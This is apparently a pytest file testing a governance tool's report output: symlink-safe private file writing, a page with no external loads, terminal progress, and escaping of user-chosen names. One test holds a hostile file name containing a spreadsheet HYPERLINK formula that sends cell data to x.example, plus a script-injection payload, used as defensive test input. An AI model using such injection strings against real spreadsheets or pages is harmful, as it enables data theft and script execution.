"""Where a report goes: files written whole and private, never through a link planted at their
names; progress on a terminal; the summary on stdout with --json."""

from __future__ import annotations

import json
import os
import pty
import re
import stat
import subprocess
import sys
from pathlib import Path

from tests.report.reporting import DAY, UNTIL, ReportSite


def test_a_link_planted_at_a_file_name_is_replaced_never_followed(
    report_site: ReportSite, tmp_path: Path
) -> None:
    report_site.decide("alice", "use", "dataset:radar-returns", "partition:itar")
    report_site.checkpoint()
    victim = tmp_path / "victim"
    victim.write_text("precious\n")
    out = tmp_path / "out"
    out.mkdir()
    (out / "report.html").symlink_to(victim)
    bundle = tmp_path / "evidence.zip"
    bundle.symlink_to(victim)
    result = report_site.report(out, "--bundle", bundle)
    assert result.code == 0, result.stderr
    assert victim.read_text() == "precious\n"
    for path in (out / "report.html", out / "report.json", bundle):
        info = path.lstat()
        assert stat.S_ISREG(info.st_mode) and stat.S_IMODE(info.st_mode) == 0o600, path


def test_the_json_summary_and_the_page_load_nothing(
    report_site: ReportSite, tmp_path: Path
) -> None:
    report_site.decide("alice", "use", "dataset:radar-returns", "partition:itar")
    report_site.checkpoint()
    out = tmp_path / "out"
    result = report_site.report(out, "--format", "html,json")
    assert result.code == 0
    summary = json.loads(result.stdout)
    assert summary["cited_entries"] == 1
    assert summary["requirements_with_evidence"] + summary["requirements_without_evidence"] == 97
    assert sorted(Path(p).name for p in summary["files"]) == ["report.html", "report.json"]
    page = (out / "report.html").read_text()
    assert not re.search(r"""\s(src|href)=["'](?!#)""", page)  # no link out, only anchors
    assert "default-src 'none'" in page and "<script" not in page


def test_progress_is_shown_on_a_terminal(report_site: ReportSite, tmp_path: Path) -> None:
    for _ in range(3):
        report_site.decide("alice", "use", "dataset:era5", "partition:gpu")
    report_site.checkpoint()
    controller, terminal = pty.openpty()
    try:
        done = subprocess.run(
            [sys.executable, "-m", "govern", "--config", str(report_site.config), "report",
             "--from", DAY, "--to", UNTIL, "--out", str(tmp_path / "out"), "--json"],
            stdout=subprocess.PIPE, stderr=terminal, timeout=120, check=False,
        )  # fmt: skip
        os.close(terminal)
        shown = b""
        while True:
            try:
                chunk = os.read(controller, 65536)
            except OSError:
                break
            if not chunk:
                break
            shown += chunk
    finally:
        os.close(controller)
    assert done.returncode == 0
    assert b"reading entries" in shown
    assert json.loads(done.stdout)["verified"] is True  # stdout stays plain JSON


def test_a_link_in_place_of_the_csv_folder_is_refused(
    report_site: ReportSite, tmp_path: Path
) -> None:
    report_site.decide("alice", "use", "dataset:era5", "partition:gpu")
    report_site.checkpoint()
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    out = tmp_path / "out"
    out.mkdir()
    (out / "csv").symlink_to(elsewhere)
    result = report_site.report(out, "--format", "csv")
    assert result.code == 2 and "is a symlink" in result.stderr
    assert list(elsewhere.iterdir()) == []


def test_names_users_choose_are_escaped_in_the_page_and_never_formulas_in_csv(
    report_site: ReportSite, tmp_path: Path
) -> None:
    hostile = '/home/mallory/=HYPERLINK("http://x.example/?"&A1)<script>alert(1)</script>.env'
    payload = {"to": "vault:secret/data/users/mallory/x", "owner": "mallory",
               "keys": ["TOKEN"], "lines": [1], "vault_version": 1}  # fmt: skip
    report_site.append("secrets.migrate", hostile, payload, f"{DAY}T01:00:00.000000Z")
    report_site.append("secrets.migrate", "=1+1", payload, f"{DAY}T02:00:00.000000Z")
    report_site.checkpoint()
    out = tmp_path / "out"
    assert report_site.report(out, "--format", "html,csv").code == 0
    page = (out / "report.html").read_text()
    assert "<script>" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    import csv

    with (out / "csv" / "secrets.csv").open() as handle:
        files = [row["file"] for row in csv.DictReader(handle)]
    assert files == [hostile, "'=1+1"]
